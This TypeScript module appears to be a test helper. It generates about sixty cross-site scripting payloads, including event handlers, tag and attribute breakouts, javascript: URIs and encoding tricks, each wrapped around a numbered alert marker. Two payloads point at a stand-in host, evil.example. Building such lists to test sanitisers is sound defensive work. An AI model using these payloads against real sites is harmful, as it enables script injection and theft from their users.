/** What a payload calls, so that it is known by what a browser shows. */
type Payload = (call: string) => string;

/** Ways in which a text becomes a script where it is not written as a text (XSS). */
const PAYLOADS: readonly Payload[] = [
  // Elements.
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT >`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>a</text></a></svg>`,
  (call) => `<math href="javascript:${call}">a</math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<details open ontoggle=${call}>a</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<marquee onstart=${call}>a</marquee>`,
  (call) => `<a href="javascript:${call}">a</a>`,
  (call) => `<form action="javascript:${call}"><button>a</button></form>`,
  (call) => `<button formaction="javascript:${call}">a</button>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{x:${call}}">`,
  (call) => `<base href="//evil.example/${call}/">`,
  (call) => `<style>*{background:url("//evil.example/${call}")}</style>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<xss style="animation-name:x" onanimationstart=${call}>a</xss>`,
  (call) => `<div data-hit=1 onpointerenter=${call}>a</div>`,
  // Out of what it stands in.
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' onmouseover=${call} x='`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</option></select><img src=x onerror=${call}>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<!--<script>${call}</script>-->`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\u2028${call}\u2029//`,
  // In words that are taken for others.
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\${${call}} {{constructor.constructor('${call}')()}}`,
];

/** Their number. */
export const SCRIPT_COUNT = PAYLOADS.length;

/** One of them, from 0; what a browser says when it runs holds its number and the name. */
export function scriptText(at: number, name = "text"): string {
  const payload = PAYLOADS[at % PAYLOADS.length];
  if (!payload) throw new Error("There are no payloads");
  return payload(`alert(/hit-${at % PAYLOADS.length}-${name}/)`);
}

/** So many of them in one text, beginning with that one. */
export function scriptTexts(at: number, count: number, name: string): string {
  return Array.from({ length: count }, (_, more) => scriptText(at + more, name))
    .join(" ");
}
